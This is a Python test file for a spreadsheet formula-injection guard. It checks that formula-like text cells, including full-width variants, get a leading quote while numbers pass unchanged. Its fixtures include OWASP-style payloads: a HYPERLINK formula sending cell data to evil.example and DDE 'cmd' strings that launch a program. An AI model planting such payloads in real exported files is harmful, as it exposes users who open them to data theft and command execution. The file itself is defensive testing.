"""Formula injection: text cells a spreadsheet would run get a leading quote, numbers never change, per cell."""

import pyarrow as pa
import pytest

from app.services.scoring.csv_io import csv_text_columns
from app.services.scoring.formulas import guard_formulas, guard_text
from tests.services.test_scoring import run

# OWASP's examples and their neighbours: what a spreadsheet would run, and what it reads as a number.
CELLS = {
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")': '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "\n=1+1": "'\n=1+1",
    # Full-width signs, which Excel reads as formulas in an East Asian locale; other full-width text stays.
    '\uff1dHYPERLINK("http://evil.example")': '\'\uff1dHYPERLINK("http://evil.example")',
    "\uff0bcmd|' /C calc'!A0": "'\uff0bcmd|' /C calc'!A0",
    "\uff0d2+3": "'\uff0d2+3",
    "\uff20SUM(1+1)": "'\uff20SUM(1+1)",
    "\uff08note\uff09": "\uff08note\uff09",
    # Other characters whose UTF-8 starts as a full-width sign's does (EF, or EF BC): they are no formula.
    "\uff76\uff80\uff76\uff85": "\uff76\uff80\uff76\uff85",
    "\uff21\uff22": "\uff21\uff22",
    "\uff1c": "\uff1c",
    "\ufeffAda": "\ufeffAda",
    "-": "'-",
    "-5": "-5",
    "+12.": "+12.",
    "-1.5e3": "-1.5e3",
    "-1,234.5": "-1,234.5",
    "-0,5": "-0,5",
    "Ada": "Ada",
    "a=b": "a=b",
    "": "",
}


@pytest.mark.parametrize(("cell", "written"), CELLS.items())
def test_guard_formulas_guards_each_cell_by_its_own_text(cell, written):
    # One cell among plain ones: the column as a whole never decides.
    column = pa.array(["Ada", cell, "7"])
    assert guard_formulas(column).to_pylist() == ["Ada", written, "7"]
    assert guard_text(cell) == written


def test_guard_formulas_reads_a_sliced_column_from_its_own_cells():
    column = pa.array(["=1+1", "-5", "Ada", "@x", ""]).slice(1, 3)
    assert guard_formulas(column).to_pylist() == ["-5", "Ada", "'@x"]


def test_csv_text_guards_numbers_written_as_text_never():
    # A typed column (a Parquet input's) is text only once written: its negative numbers stay as they are.
    table = pa.table({"balance": pa.array([-5.0, 2.5, None]), "note": pa.array(["=1", None, "-x"])})
    balance, note = csv_text_columns(table)
    assert balance.to_pylist() == ["-5", "2.5", ""]
    assert note.to_pylist() == ["'=1", "", "'-x"]
    assert csv_text_columns(table, formula_guard=False)[1].to_pylist() == ["=1", "", "-x"]


@pytest.mark.parametrize("chunk_rows", [1, 2, 1000])
def test_score_guards_formula_cells_of_the_labelled_file(model, chunk_rows):
    # The note column holds numbers in one chunk and text in the next: the rule is per cell, whatever the chunk.
    text = (
        "annual_income,spending_score,=note\n"
        "50,50,-5\n"
        '60,60,"=HYPERLINK(""http://evil.example"")"\n'
        "70,70,@SUM(A1)\n"
        "80,80,-2.5\n"
    )
    rows, _, output = run(model, text, chunk_rows=chunk_rows)
    assert output.startswith("annual_income,spending_score,'=note,")  # a header cell is a cell too
    assert [row["'=note"] for row in rows] == ["-5", '\'=HYPERLINK("http://evil.example")', "'@SUM(A1)", "-2.5"]


def test_score_guards_full_width_formula_cells_and_header_names(model):
    text = "annual_income,spending_score,\uff1dnote\n50,50,\uff20SUM(A1)\n60,60,\uff08ok\uff09\n"
    rows, _, output = run(model, text)
    assert output.startswith("annual_income,spending_score,'\uff1dnote,")
    assert [row["'\uff1dnote"] for row in rows] == ["'\uff20SUM(A1)", "\uff08ok\uff09"]


def test_score_writes_cells_unchanged_without_the_formula_guard(model):
    text = "annual_income,spending_score,=note\n50,50,=1+1\n60,60,-5\n"
    rows, _, output = run(model, text, formula_guard=False)
    assert output.startswith("annual_income,spending_score,=note,")
    assert [row["=note"] for row in rows] == ["=1+1", "-5"]
